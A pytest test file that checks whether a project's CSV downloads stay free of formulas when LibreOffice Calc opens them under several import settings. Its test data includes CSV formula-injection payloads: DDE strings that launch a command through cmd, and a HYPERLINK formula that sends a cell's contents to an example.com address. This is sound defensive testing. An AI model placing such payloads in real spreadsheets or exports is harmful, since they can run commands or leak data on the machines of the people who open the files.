"""A CSV download opened in a real spreadsheet: LibreOffice Calc, headless, converts it to a
flat ODS file and we read its cells back. No cell may come back a formula, and every cell
reads as uploaded (a neutralised one with its leading apostrophe), numbers as numbers.

What LibreOffice 7.4 runs on CSV import, found by importing every character of the Basic
Multilingual Plane before ``1+1`` and before ``=1+1`` (and the cells below), quoted and not,
under each set of import options here: a cell starting with ``=``, and nothing else; a cell
starting with spaces then ``=`` when "trim spaces" is on and the cell is not quoted; and any
``=`` that a split puts first in a cell: after a CR or LF outside quotes (a new row: the
issue's CR cells, which the csv module left unquoted) or after a separator outside quotes
(the import dialog splits at commas, semicolons and tabs by default; space and others on
request). ``+``, ``-``, ``@``, their full-width forms (U+FF0B, U+FF0D, U+FF20, and U+FF1D for
``=``), ``-{``, ``-\\]}``, ``+1+1``, ``-1+1``, ``'=1+1``, and no-break, ideographic or zero-width
spaces or a byte order mark before ``=`` all stay text in LibreOffice; the ASCII ones are still
neutralised, as Excel and Google Sheets run them (OWASP's list).
"""

from __future__ import annotations

import shutil
import subprocess
import urllib.request
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from support import CR_TABLE, http, quoted_csv
from tablecast.table.export import neutralised

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui; `make test` "
    "installs it): CSV downloads cannot be opened in a spreadsheet",
)

# The import filter's options (help.libreoffice.org, "CSV Filter Options"): separators,
# quote, character set, first line, column formats, language, quoted field as text, detect
# special numbers, (export), (export), trim spaces, (export), evaluate formulas.
DIALOG = "44/59/9,34,76,1,,0,false,false,false,false,false,-1,true"
EVERYTHING = "44/59/9/32,34,76,1,,0,false,true,false,false,true,-1,true"
IMPORTS = {
    # what --convert-to does with no options: commas, the system's character set, formulas
    # evaluated; how the issue saw both CR cells become formulas
    "convert-to defaults": None,
    # the import dialog's defaults (commas, semicolons and tabs), "evaluate formulas" ticked
    "dialog defaults, evaluating formulas": DIALOG,
    # every separator and option that makes more of a cell: spaces too, trimmed, special
    # numbers detected
    "spaces too, trimmed, special numbers": EVERYTHING,
}

STARTS = [
    # LibreOffice runs these, as they are or from where it breaks a row or splits a cell
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?"&A1;"x")', "==1", "=-1",
    " =1+1", "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    "fine\r=1+1", "see\r=cmd|' /C calc'!A0", "x\n=1+1", "x\r\n=1+1",
    "a;=1+1", "a\t=1+1", "a =1+1", "a,=1+1", "a ;\t =1+1",
    # Excel and others run these (OWASP's list)
    "+1+1", "-1+1", "@SUM(1;1)", "-{", "-{=1+1}", "-\\]}", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "\t-1+1", " @x",
    # text in every spreadsheet, kept as it is
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u00a0=1+1", "'=1+1", "1+1", "-", "a=b",
]  # fmt: skip
NUMBERS = ["-12.5", "+7", "1,234", "-1,234.5", "1e5", "-.5", "3"]

TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def download_csv(server, body: bytes, name: str) -> bytes:
    status, doc, _ = http("POST", f"{server.url}/parser/api/docs?name={name}", body)
    assert status == 201, doc
    url = f"{server.url}/parser/api/docs/{doc['id']}/download?format=csv"
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.read()


def opened(files: list[Path], options: str | None, work: Path) -> list[list[list[dict]]]:
    """Each CSV file as LibreOffice opens it: its rows of cells, each cell its formula (or
    None), value type and text, from the flat ODS file it converts it to."""
    command = [
        str(SOFFICE),
        f"-env:UserInstallation={(work / 'profile').as_uri()}",  # its own profile: no clash
        "--headless",
        "--norestore",
        "--convert-to",
        "fods",
        "--outdir",
        str(work / "out"),
    ]
    if options is not None:
        command.append(f"--infilter=Text - txt - csv (StarCalc):{options}")
    done = subprocess.run([*command, *map(str, files)], capture_output=True, text=True, timeout=180)
    sheets = []
    for path in files:
        converted = work / "out" / (path.stem + ".fods")
        assert converted.exists(), done.stdout + done.stderr
        sheets.append(cells_of(converted.read_bytes()))
    return sheets


def cells_of(fods: bytes) -> list[list[dict]]:
    table = next(ET.fromstring(fods).iter(f"{{{TABLE}}}table"))
    rows = []
    for row in table.iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in row:
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            found = {
                "formula": cell.get(f"{{{TABLE}}}formula"),
                "type": cell.get(f"{{{OFFICE}}}value-type"),
                "value": cell.get(f"{{{OFFICE}}}value"),
                "text": "\n".join(paragraph(p) for p in cell.iter(f"{{{TEXT}}}p")),
            }
            cells += [found] * min(repeat, 64)
        while cells and cells[-1]["type"] is None and cells[-1]["formula"] is None:
            cells.pop()  # the sheet's empty columns
        rows.append(cells)
    while rows and not rows[-1]:
        rows.pop()  # and empty rows
    return rows


def paragraph(element: ET.Element) -> str:
    """A text:p as text: its runs of spaces, tabs and line breaks written out."""
    out = [element.text or ""]
    for child in element:
        kind = child.tag.rsplit("}", 1)[1]
        if kind == "s":
            out.append(" " * int(child.get(f"{{{TEXT}}}c", "1")))
        elif kind == "tab":
            out.append("\t")
        elif kind == "line-break":
            out.append("\n")
        else:
            out.append(paragraph(child))
        out.append(child.tail or "")
    return "".join(out)


def as_shown(cell: str) -> str:
    """What LibreOffice shows of a downloaded cell: its line breaks are paragraphs."""
    return neutralised(cell).replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("options", IMPORTS.values(), ids=IMPORTS.keys())
async def test_no_cell_of_a_csv_download_opens_as_a_formula(server, tmp_path, options):
    work = tmp_path / "calc"
    (work / "in").mkdir(parents=True)
    files = [work / "in" / "issue.csv", work / "in" / "starts.csv"]
    files[0].write_bytes(download_csv(server, CR_TABLE, "issue.csv"))
    table = [["first", "second"], *([c, c] for c in STARTS), *([n, n] for n in NUMBERS)]
    files[1].write_bytes(download_csv(server, quoted_csv(table), "starts.csv"))

    issue, starts = opened(files, options, work)
    for sheet in (issue, starts):
        formulas = [cell for row in sheet for cell in row if cell["formula"]]
        assert not formulas, formulas

    assert [[cell["text"] for cell in row] for row in issue] == [
        ["name", "note"],
        ["alice", "fine\n=1+1"],
        ["bob", "see\n=cmd|' /C calc'!A0"],
    ]

    assert len(starts) == len(table)  # no row broken, none split into more cells
    for row, back in zip(table[: 1 + len(STARTS)], starts, strict=False):
        assert len(back) == 2, (row, back)
        for cell, got in zip(row, back, strict=True):
            assert got["type"] == "string", (cell, got)
            # convert-to's defaults read the file in the system's character set, not UTF-8
            if options is not None or cell.isascii():
                assert got["text"] == as_shown(cell), (cell, got)
    for number, back in zip(NUMBERS, starts[1 + len(STARTS) :], strict=True):
        for got in back:
            assert got["type"] == "float", (number, got)
            assert float(got["value"]) == float(number.replace(",", "")), (number, got)
